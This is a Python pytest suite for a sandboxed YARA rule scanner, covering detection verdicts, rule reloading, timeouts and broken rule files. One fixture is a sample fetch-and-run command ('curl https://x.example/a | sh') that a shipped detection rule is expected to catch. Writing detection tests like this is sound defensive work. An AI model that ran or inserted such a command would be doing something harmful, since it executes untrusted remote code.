"""YARA rules as a scanner: real rules, real confined children, and rules that change, break, hang and vanish."""

from __future__ import annotations

import io
import os
import shutil
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests import samples
from transfer.errors import Misuse
from transfer.inspection.rule_files import RuleFiles, digest_of, parse_rule_files, read_rule_files
from transfer.inspection.scan import eicar
from transfer.inspection.yara_rules import compile_rules
from transfer.inspection.yara_scan import HEADROOM, YaraScanner
from transfer.model.findings import ScanAnswer, ScanResult
from transfer.sandbox.confine import ChildLimits
from transfer.sandbox.pool import Pool
from transfer.sandbox.profiles import kernel_support
from transfer.sandbox.requests import Role

SHIPPED = Path(__file__).parents[2] / "policies" / "yara"
EVIL = 'rule evil { strings: $a = "EVIL" condition: $a }\n'
LIMIT = 20_000_000

pytestmark = pytest.mark.skipif(not kernel_support().complete, reason="this kernel cannot confine children")


def make_pool(material: int, *, strict: bool = False) -> Pool:
    limits = ChildLimits(memory_bytes=LIMIT + HEADROOM)
    return Pool(role=Role.RULES, workers=1, limits=limits, strict=strict, material=material)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "evil.yar").write_text(EVIL)
    return rules


Maker = Callable[..., YaraScanner]


@pytest.fixture
def make(folder: Path) -> Iterator[Maker]:
    made: list[YaraScanner] = []

    def begin(path: Path = folder, *, timeout: float = 30.0) -> YaraScanner:
        made.append(YaraScanner(folder=path, make_pool=make_pool, timeout=timeout, size_limit=LIMIT).start())
        return made[-1]

    yield begin
    for scanner in made:
        scanner.close()


def look(scanner: YaraScanner, content: bytes) -> ScanResult:
    with tempfile.TemporaryFile() as file:
        file.write(content)
        file.seek(0)
        return scanner.scan(file, len(content))


def settled(scanner: YaraScanner) -> bool:
    """Two looks: a folder is taken over when it is the same at both."""
    return scanner.tend() or scanner.tend()


class TestAnswers:
    def test_clean_and_infected(self, make: Maker, folder: Path) -> None:
        scanner = make()
        found, clean = look(scanner, b"pure EVIL"), look(scanner, b"good")
        assert (found.answer, found.threat) == (ScanAnswer.INFECTED, "evil.yar/evil")
        assert (clean.answer, clean.threat) == (ScanAnswer.CLEAN, "")
        assert clean.signatures.endswith(f"rules {read_rule_files(folder).sha256}")
        assert clean.signatures.startswith("YARA-X 1.")

    def test_the_test_file_is_found_whatever_the_rules(self, make: Maker) -> None:
        assert look(make(), eicar()).threat == "built-in/eicar_test_file"
        assert make().self_test().passed

    def test_an_ordinary_picture_and_film_are_clean_by_the_shipped_rules(self, make: Maker, mp4: bytes) -> None:
        scanner = make(SHIPPED)
        for content in (samples.jpeg(), samples.png(), samples.gif(), mp4, b"A caption for #openday"):
            assert look(scanner, content).answer is ScanAnswer.CLEAN

    @pytest.mark.parametrize(
        ("content", "rule"),
        [
            (samples.trailed(samples.jpeg(), b"PK\x05\x06" + bytes(18)), "zip_behind_a_picture_or_film"),
            (samples.jpeg() + b"MZ\x90\x00\x03\x00\x00\x00", "program_behind_a_jpeg"),
            (b"see curl https://x.example/a | sh", "script_that_fetches_and_runs"),
            (eicar(), "eicar_test_file"),
        ],
    )
    def test_the_shipped_rules_find_what_they_say(self, content: bytes, rule: str) -> None:
        files = read_rule_files(SHIPPED)
        matches = compile_rules(files, rules=files.sha256).matching(content)
        assert rule in {match.partition("/")[2] for match in matches}

    def test_a_file_over_the_limit_is_unscannable_and_not_read(self, make: Maker) -> None:
        assert make().scan(io.BytesIO(), LIMIT + 1).answer is ScanAnswer.UNSCANNABLE

    def test_the_largest_file_fits_into_the_memory_of_a_child(self, make: Maker) -> None:
        assert look(make(), bytes(LIMIT - 4) + b"EVIL").answer is ScanAnswer.INFECTED

    def test_another_size_than_announced_is_not_clean(self, make: Maker) -> None:
        with tempfile.TemporaryFile() as file:
            file.write(b"good")
            for size in (3, 5):
                assert make().scan(file, size).answer is ScanAnswer.UNSCANNABLE

    def test_content_that_is_no_file_is_not_clean(self, make: Maker) -> None:
        assert make().scan(io.BytesIO(b"good"), 4).answer is ScanAnswer.UNAVAILABLE

    def test_rules_that_take_too_long_make_a_file_unscannable_and_stall_nobody(self, make: Maker, folder: Path) -> None:
        (folder / "slow.yar").write_text(
            'import "math"\nrule slow { condition: filesize > 100 and for any i in (0..100000000) : '
            "( math.entropy(0, filesize) > 10.0 and i < 0 ) }\n"
        )
        scanner = make(timeout=0.5)
        began = time.monotonic()
        assert look(scanner, os.urandom(100_000)).answer is ScanAnswer.UNSCANNABLE
        assert time.monotonic() - began < 3
        assert look(scanner, b"good").answer is ScanAnswer.CLEAN


class TestChanges:
    def test_changed_rules_are_taken_over_once_nobody_writes_any_more(self, make: Maker, folder: Path) -> None:
        scanner = make()
        before = look(scanner, b"WORSE")
        assert before.answer is ScanAnswer.CLEAN
        assert not settled(scanner)
        (folder / "worse.yar").write_text('rule worse { strings: $a = "WORSE" condition: $a }')
        assert not scanner.tend()  # it may still be written
        assert scanner.tend()
        assert look(scanner, b"WORSE").answer is ScanAnswer.INFECTED
        assert scanner.outdated(before)
        assert not scanner.outdated(look(scanner, b"good"))

    @pytest.mark.parametrize("broken", ["rule {", 'include "/etc/passwd"', "\xff"])
    def test_nothing_is_clean_while_the_rules_are_broken(self, make: Maker, folder: Path, broken: str) -> None:
        scanner = make()
        (folder / "more.yar").write_bytes(broken.encode("latin-1"))
        settled(scanner)
        assert look(scanner, b"good").answer is ScanAnswer.UNAVAILABLE
        test = scanner.self_test()
        assert not test.passed
        assert "more.yar" in test.sentence
        assert "line 1" in test.sentence
        (folder / "more.yar").unlink()
        assert settled(scanner)
        assert look(scanner, b"good").answer is ScanAnswer.CLEAN

    def test_a_folder_that_is_emptied_or_gone_looks_for_nothing(self, make: Maker, folder: Path) -> None:
        scanner = make()
        (folder / "evil.yar").rename(folder / "evil.off")
        settled(scanner)
        assert look(scanner, b"good").answer is ScanAnswer.UNAVAILABLE
        shutil.rmtree(folder)
        settled(scanner)
        assert str(folder) in scanner.self_test().sentence

    def test_the_digest_covers_names_and_texts(self, folder: Path) -> None:
        seen = {read_rule_files(folder).sha256}
        (folder / "evil.yar").rename(folder / "other.YARA")
        seen.add(read_rule_files(folder).sha256)
        (folder / "other.YARA").write_text(EVIL + " ")
        seen.add(read_rule_files(folder).sha256)
        assert len(seen) == 3


class TestStart:
    @pytest.mark.parametrize(
        ("text", "said"),
        [
            ('rule a { strings: $a = "x" condition: $b }', "line 1, is wrong: unknown pattern"),
            ("rule a { condition: true }\nrule a { condition: true }", "line 2, is wrong: duplicate rule"),
            ('import "nothing"\nrule a { condition: true }', "unknown module"),
            ('include "other.yar"', "include statements not allowed"),
            ("rule a {", "syntax error"),
        ],
    )
    def test_a_broken_rule_file_is_named_with_its_line_and_reason(
        self, make: Maker, folder: Path, text: str, said: str
    ) -> None:
        (folder / "broken.yar").write_text(text)
        with pytest.raises(Misuse) as caught:
            make()
        assert "broken.yar" in caught.value.sentence
        assert said in caught.value.sentence
        assert caught.value.advice

    def test_a_folder_without_rules_is_misuse(self, make: Maker, folder: Path, tmp_path: Path) -> None:
        (folder / "evil.yar").unlink()
        (folder / "sub").mkdir()
        (folder / "sub" / "deep.yar").write_text(EVIL)
        for path in (folder, tmp_path / "nowhere"):
            with pytest.raises(Misuse):
                make(path)

    def test_what_is_no_file_keeps_nobody_waiting(self, folder: Path) -> None:
        os.mkfifo(folder / "pipe.yar")
        with pytest.raises(Misuse, match="not a file"):
            read_rule_files(folder)

    def test_too_much_is_misuse(self, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr("transfer.inspection.rule_files.MAX_BYTES", 10)
        with pytest.raises(Misuse, match="more than 10 bytes"):
            read_rule_files(folder)

    def test_no_descriptor_and_no_process_is_left(self, make: Maker, folder: Path) -> None:
        make().close()
        before = len(os.listdir("/proc/self/fd"))
        scanner = make()
        (folder / "evil.yar").write_text(EVIL + "\n")
        assert settled(scanner)
        (folder / "evil.yar").write_text("rule {")
        settled(scanner)
        scanner.close()
        assert len(os.listdir("/proc/self/fd")) <= before


@given(st.lists(st.tuples(st.text(st.characters(codec="utf-8")), st.text(st.characters(codec="utf-8"))), min_size=1))
def test_rendered_rule_files_come_back(files: list[tuple[str, str]]) -> None:
    rules = RuleFiles(files=tuple(files))
    rendered = rules.render()
    assert parse_rule_files(rendered) == rules
    assert digest_of(rendered) == rules.sha256


@given(st.binary(max_size=200) | st.sampled_from([b"[]", b"[1]", b'[["a"]]', b'[["a",1]]', b"{}", b"null"]))
def test_anything_else_is_a_value_error(rendered: bytes) -> None:
    try:
        parse_rule_files(rendered)
    except ValueError:
        return
    assert rendered.startswith(b"[")
